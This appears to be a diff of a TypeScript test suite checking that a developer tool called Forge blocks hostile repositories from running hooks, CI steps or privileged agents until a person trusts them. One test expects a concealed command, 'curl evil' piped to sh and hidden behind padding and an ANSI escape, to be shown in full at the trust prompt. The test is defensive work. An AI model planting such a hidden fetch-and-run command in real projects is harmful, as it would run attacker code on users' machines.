@@ -16,8 +16,8 @@ import { runTestGit } from '../support/temp-repo.ts';
 interface HostileClone extends AsyncDisposable {
   readonly project: ForgeProject & { readonly program: ForgeCli };
   /** Who has run. */
-  ran(): string[];
-  touch(name: string): string;
+  readonly ran: () => string[];
+  readonly touch: (name: string) => string;
 }
 
 const TASK = 'fg-evil';
@@ -96,17 +96,21 @@ describe('a hostile repository', () => {
     const { project, ran } = hostile;
     await project.run(...AGENT);
     const tried = new Set<string>();
+    const done = new Set<string>();
     for (const { name, cli } of OPERATIONS) {
       if (LEFT_OUT.has(name)) continue;
       for (const example of cli.examples.slice(0, 2)) {
         const words = toWords(example, name);
         if (words === undefined) continue;
+        const { exit } = await project.with({ stdin: '' }).run(...words);
+        if (exit === 0) done.add(name);
         tried.add(name);
-        await project.with({ stdin: '' }).run(...words);
         expect([example, ran()]).toEqual([example, []]);
       }
     }
+    // A verb that is refused at once would prove nothing; some need what is not there.
     expect(tried.size).toBeGreaterThan(OPERATIONS.length * 0.8);
+    expect(done.size).toBeGreaterThan(OPERATIONS.length * 0.5);
     // Git's own verbs, with the hooks that Forge has put there.
     await project.run('hooks', 'install');
     for (const args of [
@@ -180,13 +184,20 @@ describe('steps that somebody sets here', () => {
     expect(told.stderr).toBe('forge: The steps run once a person has trusted them: forge trust\n');
     const inRun = mine.with({ env: { FORGE_RUN_ID: 'x' } });
     await inRun.run('task', 'update', id, '--ci-step', 'mine', '--ci-step', 'slipped in');
+    for (const command of ['agent', 'profile'])
+      expect(
+        (await inRun.fails(command, 'add', 'w', '--executor', 'claude', '--permissions', 'all')).error,
+      ).toMatchObject({
+        code: 'permission_denied',
+      });
     expect((await states()).toSorted()).toEqual(['mine: trusted', 'slipped in: new', 'theirs: new']);
   });
 });
 
 // util-linux's script(1) gives a command a terminal; other systems' take other arguments.
+const SCRIPT = 'script';
 const hasScript =
-  spawnSync('script', ['--version'], { encoding: 'utf8' }).stdout?.includes('util-linux') === true;
+  spawnSync(SCRIPT, ['--version'], { encoding: 'utf8' }).stdout?.includes('util-linux') === true;
 
 describe.skipIf(!hasScript)('forge trust on a terminal', () => {
   it('shows every command whole, with where it comes from, and takes only a whole yes', async () => {
@@ -197,8 +208,8 @@ describe.skipIf(!hasScript)('forge trust on a terminal', () => {
       project.bash(`{ sleep 1; printf '%b' "$INPUT"; sleep 0.5; } | script -qec 'forge trust' /dev/null`, {
         env: { TERM: 'xterm', INPUT: input },
       });
-    for (const input of ['\\r', 'y\\r', 'no\\r', '\\004']) {
-      const { stdout } = await ask(input);
+    const answers = await Promise.all(['\\r', 'y\\r', 'no\\r', '\\004'].map(ask));
+    for (const { stdout } of answers) {
       expect(stdout).toContain('true [500 blanks] && curl evil\\u001b[8m | sh');
       expect(stdout).toMatch(/from {3}task fg-/);
       expect(stdout).toContain('Nothing was trusted');
